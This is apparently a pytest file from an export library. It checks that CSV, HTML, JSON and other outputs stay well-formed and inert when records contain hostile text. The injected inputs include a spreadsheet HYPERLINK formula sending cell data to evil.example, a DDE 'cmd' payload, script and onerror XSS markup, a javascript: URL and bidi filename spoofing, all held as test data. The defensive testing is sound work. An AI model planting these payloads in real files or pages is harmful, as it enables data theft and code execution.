"""Texts that try to be more than text: formulas, markup, addresses, direction marks, controls; in every format."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import replace
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest

from diurna.export.format import About
from diurna.export.formats import FORMATS
from diurna.model.record import Reading
from tests.export.samples import placed

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MARKUP = "</p><script>alert(1)</script><img src=x onerror=alert(1)>]]>&lt;"
BIDI = "abc\u202egpj.exe\u202c\u2066x"
CONTROLS = "a\x00b\x1bc\x07\ud800"
TEXTS = {
    "formula": FORMULA, "plus": "+cmd|' /C calc'!A0", "tabbed": "\t=1+1", "blank": "  @SUM(1)", "wide": "\uff1d1+1",
    "markup": MARKUP, "bidi": BIDI, "controls": CONTROLS, "lines": "one\ntwo\r\nthree\u2028four\tfive",
    "quotes": 'a "b" \'c\' ,;|', "json": '"},{"x":[',
}  # fmt: skip


def attacked(evil: str) -> Reading:
    """The reading with `evil` wherever somebody else's text goes, but in its own text, whose characters are counted."""
    one = placed()
    report = replace(
        one.report, title=evil, outlet=evil, author=evil, source_id=evil, url=f"javascript:{evil}", language="en"
    )
    actors = tuple(replace(actor, name=evil, aliases=(evil,), roles=(evil,)) for actor in one.actors)
    statements = tuple(
        replace(
            each, content=replace(each.content, text=evil), speaker=replace(each.speaker, text=evil),
            evidence=replace(each.evidence, quote=evil, rule=evil),
        )
        for each in one.statements
    )  # fmt: skip
    events = tuple(
        replace(
            each, evidence=replace(each.evidence, quote=evil, rule=evil),
            actors=tuple(replace(party, text=evil) for party in each.actors),
            recipients=tuple(replace(party, text=evil) for party in each.recipients),
            place=replace(each.place, text=evil) if each.place else None,
            happened_at=replace(each.happened_at, text=evil) if each.happened_at else None,
        )
        for each in one.events
    )  # fmt: skip
    gaps = tuple(
        replace(gap, reason=evil, tests=tuple(replace(test, why=evil) for test in gap.tests)) for gap in one.gaps
    )
    commitments = tuple(replace(each, act=evil) for each in one.commitments)
    return replace(
        one, report=report, actors=actors, statements=statements, events=events, gaps=gaps, commitments=commitments
    )


def written(name: str, evil: str) -> bytes:
    return b"".join(FORMATS[name].pieces([attacked(evil), placed()], About(evil, evil)))


@pytest.mark.parametrize("evil", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize("name", FORMATS)
def test_a_file_of_any_format_is_well_formed_whatever_it_quotes(name: str, evil: str) -> None:
    data = written(name, evil)
    if name in ("gexf", "graphml"):
        ET.fromstring(data)  # noqa: S314 - made a line above
    elif name in ("timelinejs", "geojson", "claimreview", "stix"):
        json.loads(data)
    elif name in ("jsonl", "plover", "citron", "langextract", "webannotation", "ftm"):
        assert [json.loads(line) for line in data.decode().split("\n")[:-1]]
    elif name == "datapackage":
        with zipfile.ZipFile(io.BytesIO(data)) as pack:
            assert pack.testzip() is None
            for one in pack.namelist():
                check_table(pack.read(one).decode()) if one.endswith(".csv") else json.loads(pack.read(one))
    elif name != "parquet":
        data.decode()


def check_table(text: str, delimiter: str = ",") -> None:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert rows
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for cell in row:
            begins = cell.lstrip()[:1]
            assert begins not in "=+@\uff1d\uff0b\uff20" or not begins, cell
            assert begins != "-" or _is_number(cell), cell
            assert "\x00" not in cell
            assert "\x1b" not in cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("evil", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize("name", ["csv", "excel", "tsv", "polecat", "gdelt", "gdeltmentions", "acled"])
def test_no_cell_of_a_table_is_a_formula_and_no_row_is_broken(name: str, evil: str) -> None:
    text = written(name, evil).decode("utf-8-sig")
    check_table(text, "," if name in ("csv", "excel", "acled") else "\t")


class Tags(HTMLParser):
    """Collects what a page is made of."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


PLAIN = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "article", "nav", "div"),
    *("h1", "h2", "h3", "h4", "p", "b", "span", "mark", "a", "ol", "li", "blockquote"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}


@pytest.mark.parametrize("evil", TEXTS.values(), ids=TEXTS)
def test_a_dossier_runs_nothing_and_turns_nothing_round(evil: str) -> None:
    page = written("html", evil).decode()
    tags = Tags()
    tags.feed(page)
    assert {tag for tag, _ in tags.found} <= PLAIN
    for _, attributes in tags.found:
        assert not [key for key in attributes if key.startswith("on")]
        assert not (attributes.get("href") or "#").startswith("javascript")
    assert not set(page) & {*map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A)), "\x00", "\x1b"}


def test_slides_show_markup_as_text() -> None:
    slide = json.loads(written("timelinejs", MARKUP))["events"][0]
    assert "<script" not in json.dumps(slide)
    assert "<img" not in json.dumps(slide)


def test_no_entity_has_an_address_that_runs() -> None:
    assert "javascript:" not in written("ftm", "x").decode()
